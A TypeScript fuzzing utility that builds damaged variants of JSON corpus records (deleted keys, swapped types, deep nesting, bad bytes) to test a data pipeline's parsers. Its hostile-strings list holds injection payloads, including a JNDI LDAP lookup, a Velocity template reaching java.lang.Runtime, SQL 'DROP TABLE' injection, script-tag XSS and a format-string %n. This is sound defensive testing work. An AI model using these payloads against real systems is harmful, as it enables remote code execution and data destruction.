import { TableName } from '@engagement-db/canonical-model';
import { type CorpusCase, loadCorpus } from '@engagement-db/corpus';
import { SeededRandom } from '@engagement-db/workload';

/** How a record was damaged; a record can have several. */
export const Mutation = {
  none: 'none',
  deletedKey: 'deleted-key',
  swappedType: 'swapped-type',
  renamedKey: 'renamed-key',
  hostileString: 'hostile-string',
  hugeString: 'huge-string',
  brokenNestedJson: 'broken-nested-json',
  mutatedNestedJson: 'mutated-nested-json',
  deepNesting: 'deep-nesting',
  manyElements: 'many-elements',
  truncated: 'truncated',
  loneSurrogate: 'lone-surrogate',
  invalidUtf8: 'invalid-utf8',
  controlBytes: 'control-bytes',
} as const;
export type Mutation = (typeof Mutation)[keyof typeof Mutation];

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

// Strings a hostile or careless producer sends: terminal escapes, template and SQL syntax, names
// that mean something to JavaScript, lone surrogates, bidi controls, format strings, line breaks.
const hostileStrings: readonly string[] = [
  '\u001b[2J\u001b[H\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u009b31m',
  '\u0000nul\u0000',
  '\ud800',
  'x\udfffy',
  '\ud83d',
  '\u202egnp.exe',
  '#set($x = 1)$x',
  '$!{foo.getClass().forName("java.lang.Runtime")}',
  '#foreach($i in [1..100000000])$i#end',
  '${jndi:ldap://example.com/a}',
  '__proto__',
  'constructor',
  'prototype',
  "' OR 1=1; DROP TABLE events; --",
  '<script>alert(1)</script>',
  '%s%s%s%n',
  'line\r\nbreak\u2028sep\u2029',
  '',
  ' ',
  '🎉'.repeat(200),
  'é'.normalize('NFD').repeat(100),
  '9'.repeat(400),
  '-0',
  '1e309',
  'NaN',
  'true',
  'null',
  '{"Message":"{"}',
];

const typeSwaps: readonly Json[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 63,
  -(2 ** 53) - 1,
  1e308,
  '',
  '0',
  '2025-03-14T10:00:00Z',
  [],
  {},
  [null],
  { '': null },
  'x'.repeat(64),
];

/** One generated input record: the bytes of its line, the table it is for, and what was done to it. */
export interface FuzzRecord {
  readonly bytes: Buffer;
  readonly mutations: readonly Mutation[];
}

/**
 * Makes damaged variants of the corpus records of a table: each record is a corpus record (the
 * malformed ones too) with up to three mutations applied to its parsed value, to the JSON text held in
 * its strings (SNS `Message`, WhatsApp `whatsAppWebhookEntry`), or to its text and bytes. A fifth of
 * the records are left whole, so every run also maps good records.
 *
 * @example const records = new CorpusMutator(new SeededRandom(1), TableName.events).records(1000);
 */
export class CorpusMutator {
  private readonly cases: readonly CorpusCase[];

  constructor(
    private readonly random: SeededRandom,
    readonly table: TableName,
  ) {
    this.cases = loadCorpus().filter((c) => c.table === table);
  }

  records(count: number): FuzzRecord[] {
    return Array.from({ length: count }, () => this.record());
  }

  record(): FuzzRecord {
    const { random } = this;
    const corpusCase = random.pick(this.cases);
    const mutations: Mutation[] = [];
    let value: Json;
    try {
      value = JSON.parse(corpusCase.rawText) as Json;
    } catch {
      value = corpusCase.rawText; // a malformed record that is not JSON: mutated as text only
    }
    const count = random.chance(0.2) ? 0 : 1 + random.int(0, 2);
    let text: string | undefined;
    // One line: a malformed record that is not JSON is kept as its text, its line breaks made spaces.
    const line = (): string =>
      text ?? (typeof value === 'string' ? value.replace(/\r?\n/g, ' ') : JSON.stringify(value));
    for (let i = 0; i < count; i += 1) {
      // Once the record is text, only its text is changed.
      const structured = typeof value === 'object' && value !== null && text === undefined;
      const roll = structured ? random.next() : 0.6 + 0.4 * random.next();
      if (roll < 0.6) {
        const mutation = this.mutateValue(value as Json);
        if (mutation) mutations.push(mutation);
      } else if (roll < 0.7) {
        text = this.deeplyNested(line());
        mutations.push(Mutation.deepNesting);
      } else if (roll < 0.8) {
        text = line().slice(0, random.int(0, line().length - 1));
        mutations.push(Mutation.truncated);
      } else if (roll < 0.9) {
        text = this.withLoneSurrogate(line());
        mutations.push(Mutation.loneSurrogate);
      } else {
        const bytes = this.withBadBytes(Buffer.from(line()));
        mutations.push(bytes.mutation);
        return { bytes: bytes.bytes, mutations };
      }
    }
    return {
      bytes: Buffer.from(line(), 'utf8'),
      mutations: mutations.length > 0 ? mutations : [Mutation.none],
    };
  }

  /** Changes one node of the value in place; returns what was done. */
  private mutateValue(root: Json): Mutation | undefined {
    const { random } = this;
    const nested = random.chance(0.35) ? nestedJsonStrings(root) : [];
    if (nested.length > 0) {
      const { holder, key, inner } = random.pick(nested);
      const roll = random.next();
      if (roll < 0.4 && typeof inner === 'object' && inner !== null) {
        this.mutateValue(inner);
        setChild(holder, key, JSON.stringify(inner));
        return Mutation.mutatedNestedJson;
      }
      const text = JSON.stringify(inner);
      setChild(
        holder,
        key,
        roll < 0.8
          ? text.slice(0, random.int(0, text.length - 1))
          : random.pick(['{', 'null', '[]', 'not json', '']),
      );
      return Mutation.brokenNestedJson;
    }
    const nodes = containersOf(root);
    const { node } = random.pick(nodes);
    const keys = Array.isArray(node) ? node.map((_, i) => i) : Object.keys(node);
    if (keys.length === 0) return undefined;
    const key = random.pick(keys as (string | number)[]);
    const roll = random.next();
    if (roll < 0.25) {
      if (Array.isArray(node)) node.splice(key as number, 1);
      else delete node[key as string];
      return Mutation.deletedKey;
    }
    if (roll < 0.5) {
      setChild(node, key, random.pick(typeSwaps));
      return Mutation.swappedType;
    }
    if (roll < 0.6 && !Array.isArray(node)) {
      const renamed = random.pick([
        (k: string) => k.toUpperCase(),
        (k: string) => `${k} `,
        (k: string) => k.slice(1),
      ]);
      node[renamed(key as string)] = node[key as string];
      delete node[key as string];
      return Mutation.renamedKey;
    }
    if (roll < 0.8) {
      setChild(node, key, random.pick(hostileStrings));
      return Mutation.hostileString;
    }
    if (roll < 0.9 && !Array.isArray(node)) {
      // An own property, even named __proto__, as JSON.parse makes it.
      Object.defineProperty(node, random.pick(hostileStrings), {
        value: random.pick(hostileStrings),
        enumerable: true,
        writable: true,
        configurable: true,
      });
      return Mutation.hostileString;
    }
    if (roll < 0.97 || !Array.isArray(node)) {
      // Strings of a megabyte are kept rare: a run of a million records stays within what a disk and
      // an hour can take (rows of tens of megabytes are the lake's own tests).
      const size = random.chance(0.002) ? 1 << 20 : 1 << (10 + random.int(0, 4));
      setChild(node, key, random.pick(['x', '\u001b', 'é', '\\', '"']).repeat(size));
      return Mutation.hugeString;
    }
    const element = node[0];
    node.push(...Array.from({ length: 100 + random.int(0, 1999) }, () => structuredClone(element)));
    return Mutation.manyElements;
  }

  private deeplyNested(line: string): string {
    // Deeper than any recursion a parser or renderer could take; the deepest are rare, for size.
    const depth = this.random.chance(0.02) ? 100_000 : this.random.pick([64, 1000, 5000]);
    const [open, close] = this.random.chance(0.5) ? ['[', ']'] : ['{"a":', '}'];
    const nest = `${open.repeat(depth)}1${close.repeat(depth)}`;
    // Replaces the value of a key: the record stays an object with its other fields.
    const at = line.indexOf(':');
    if (at < 0 || !line.startsWith('{')) return nest;
    const end = line.indexOf(',', at);
    return end < 0 ? nest : `${line.slice(0, at + 1)}${nest}${line.slice(end)}`;
  }

  private withLoneSurrogate(line: string): string {
    const quote = line.indexOf('"', this.random.int(0, Math.max(0, line.length - 1)));
    const surrogate = this.random.pick(['\\ud800', '\\udfff', '\\udbff\\u0041', '\ud800']);
    return quote < 0 ? line : `${line.slice(0, quote + 1)}${surrogate}${line.slice(quote + 1)}`;
  }

  private withBadBytes(bytes: Buffer): { bytes: Buffer; mutation: Mutation } {
    const at = this.random.int(0, bytes.length);
    const invalid = this.random.chance(0.5);
    const inserted = invalid
      ? Buffer.from(this.random.pick([[0xff], [0xc3], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80]]))
      : Buffer.from(this.random.pick([[0x00], [0x1b, 0x5b, 0x32, 0x4a], [0x0d], [0x07], [0x7f]]));
    return {
      bytes: Buffer.concat([bytes.subarray(0, at), inserted, bytes.subarray(at)]),
      mutation: invalid ? Mutation.invalidUtf8 : Mutation.controlBytes,
    };
  }
}

type Container = Json[] | { [key: string]: Json };

function containersOf(root: Json): { node: Container }[] {
  const found: { node: Container }[] = [];
  const visit = (value: Json): void => {
    if (typeof value !== 'object' || value === null) return;
    found.push({ node: value });
    for (const child of Array.isArray(value) ? value : Object.values(value)) visit(child);
  };
  visit(root);
  return found;
}

/** The strings of a value that hold a JSON object or array, parsed: SNS `Message`, `whatsAppWebhookEntry`. */
function nestedJsonStrings(root: Json): { holder: Container; key: string | number; inner: Json }[] {
  const found: { holder: Container; key: string | number; inner: Json }[] = [];
  for (const { node } of containersOf(root)) {
    for (const [key, child] of Object.entries(node)) {
      if (typeof child !== 'string' || !/^\s*[[{]/.test(child)) continue;
      try {
        found.push({
          holder: node,
          key: Array.isArray(node) ? Number(key) : key,
          inner: JSON.parse(child) as Json,
        });
      } catch {
        // not JSON: left to the other mutations
      }
    }
  }
  return found;
}

function setChild(node: Container, key: string | number, value: Json): void {
  (node as Record<string | number, Json>)[key] = value;
}
